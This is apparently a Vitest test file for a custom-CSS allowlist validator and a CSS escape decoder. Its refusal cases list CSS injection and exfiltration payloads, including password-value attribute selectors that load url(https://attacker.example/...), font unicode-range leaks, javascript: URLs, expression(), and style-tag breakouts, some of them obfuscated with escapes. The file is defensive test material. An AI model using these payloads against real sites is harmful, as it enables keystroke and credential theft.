// @vitest-environment node
// The custom CSS rule (common/custom-css.ts): a parsed allowlist. What it lets through, and every
// way of reading what a person types or fetching from elsewhere that it refuses.
import { describe, expect, it } from 'vitest';
import { checkCustomCss, decodeCssEscapes, MAX_CUSTOM_CSS_LENGTH } from '../../../common/custom-css.ts';

const APP = '6f1c1f0e-3b7a-4c56-9d0e-2a1b3c4d5e6f';
const ASSET = '0b9d8c7e-6f5a-4b3c-8d2e-1f0a9b8c7d6e';
const OTHER_APP = '11111111-2222-4333-8444-555555555555';

describe('checkCustomCss', () => {
  it.each([
    ['', 'nothing'],
    [':root { --foyer-color-primary: #0a7; }\n.login h1 { font-weight: 700; }', 'tokens and rules'],
    ['a > b, a + b, a ~ b { color: red }', 'combinators'],
    ['html { scroll-behavior: smooth; overscroll-behavior: contain }', 'scroll-behavior'],
    [`.logo { background: url(/${APP}/assets/${ASSET}) no-repeat }`, "one of the app's uploaded assets"],
    [`.logo { background-image: url("/${APP}/assets/${ASSET}") }`, 'a quoted asset path'],
    ['.logo { background-image: url(data:image/png;base64,iVBORw0KGgo=) }', 'a data: image'],
    ['/* a comment */ .a::before { content: "\\2014" }', 'comments and an escaped dash'],
    ['@media (max-width: 600px) { .card { border-radius: 0 } }', 'media queries'],
    ['@supports (display: grid) { .x { display: grid } } @keyframes spin { to { transform: rotate(1turn) } }', 'supports and keyframes'],
    [
      '.b { background: linear-gradient(90deg, rgb(0 0 0 / 50%), var(--foyer-color-primary)); width: calc(100% - 2rem) }',
      'gradients, colours, var and calc',
    ],
    ['button:hover:not(:disabled), input:focus-visible, .x:has(> .y) { outline: 2px solid hsl(200 50% 50%) }', 'pseudo-classes'],
  ])('accepts %j (%s)', (css) => {
    expect(checkCustomCss(css)).toEqual({ ok: true });
  });

  it.each([
    // The selector of issue 13: React mirrors the typed value into the attribute.
    ['input[type=password][value$="a"]{background:url(https://attacker.example/a)}', 'attribute'],
    ['input[value^="s"] { color: red }', 'attribute'],
    ['[value*=x] + label { color: red }', 'attribute'],
    ['form:has(input[VALUE$=a]) { color: red }', 'attribute'],
    ['input[type=password] { color: red }', 'attribute'],
    ['input[\\76 alue$=a] { color: red }', 'attribute'],
    ['body { background: url(https://attacker.example/a) }', 'url'],
    ['body { background: url("//attacker.example/a") }', 'url'],
    [`body { background: url(/${APP}/assets/${ASSET}?x=1) }`, 'url'],
    [`body { background: url(/${APP}/assets/../../evil) }`, 'url'],
    ['body { background: url(data:image/svg+xml,<svg/>) }', 'markup'],
    ['body { background: url(data:text/html;base64,PGI+) }', 'url'],
    ['body { cursor: url(https://attacker.example/c.cur), auto }', 'url'],
    ['@font-face { font-family: x; src: url(https://attacker.example/f.woff); unicode-range: U+61 }', 'url'],
    ['body { background: image-set("https://attacker.example/a" 1x) }', 'function'],
    ['body { background: -webkit-image-set("https://attacker.example/a" 1x) }', 'function'],
    ['a::after { content: attr(value) }', 'function'],
    ['body { --x: url(https://attacker.example/a) } input { background: var(--x) }', 'url'],
    ['</style><script>alert(1)</script>', 'markup'],
    ['a::after { content: "\\3c /style>" }', 'markup'],
    // An unquoted url() cannot hold "(": not CSS at all.
    ['body { background: url(javascript:alert(1)) }', 'syntax'],
    ["body { background: url('JavaScript:alert(1)') }", 'url'],
    ['body { background: url(\\6a avascript:alert(1)) }', 'syntax'],
    ['body { background: url(\\6a avascript:alert\\28 1\\29) }', 'url'],
    ['body { background: u\\72 l(https://attacker.example/a) }', 'syntax'],
    ['body { width: EXPRESSION (alert(1)) }', 'function'],
    ['body { width: expression(alert(1)) }', 'function'],
    ['body { width: \\65 xpression(alert(1)) }', 'function'],
    ['@import url(https://evil.example/x.css);', 'import'],
    ['@\\69 mport "x.css";', 'import'],
    ['@namespace svg url(http://www.w3.org/2000/svg);', 'at_rule'],
    ['body { behavior: url(x.htc) }', 'binding'],
    ['body { -moz-binding: url(x.xml#xss) }', 'binding'],
    ['body { beh\\61vior: url(x.htc) }', 'binding'],
    ['a { color: red } }}} b { x', 'syntax'],
  ])('refuses %j as %s', (css, reason) => {
    expect(checkCustomCss(css)).toEqual({ ok: false, reason });
  });

  it('with the app named, accepts its own assets only', () => {
    const own = `.logo { background: url(/${APP}/assets/${ASSET}) }`;
    expect(checkCustomCss(own, { appId: APP })).toEqual({ ok: true });
    expect(checkCustomCss(own, { appId: OTHER_APP })).toEqual({ ok: false, reason: 'url' });
  });

  it('refuses more than the limit and accepts exactly the limit', () => {
    const atLimit = `a{}${' '.repeat(MAX_CUSTOM_CSS_LENGTH - 3)}`;
    expect(atLimit).toHaveLength(MAX_CUSTOM_CSS_LENGTH);
    expect(checkCustomCss(atLimit)).toEqual({ ok: true });
    expect(checkCustomCss(`${atLimit} `)).toEqual({ ok: false, reason: 'too_long' });
  });
});

describe('decodeCssEscapes', () => {
  it('decodes hex escapes with their trailing whitespace, plain escapes and line continuations', () => {
    expect(decodeCssEscapes('\\6a avascript')).toBe('javascript');
    expect(decodeCssEscapes('\\000073 x')).toBe('sx');
    expect(decodeCssEscapes('\\73\r\nx')).toBe('sx');
    expect(decodeCssEscapes('a\\\nb')).toBe('ab');
    expect(decodeCssEscapes('\\:\\(')).toBe(':(');
    expect(decodeCssEscapes('\\0 \\110000 \\d800 ')).toBe('\ufffd\ufffd\ufffd');
    expect(decodeCssEscapes('end\\')).toBe('end');
  });
});
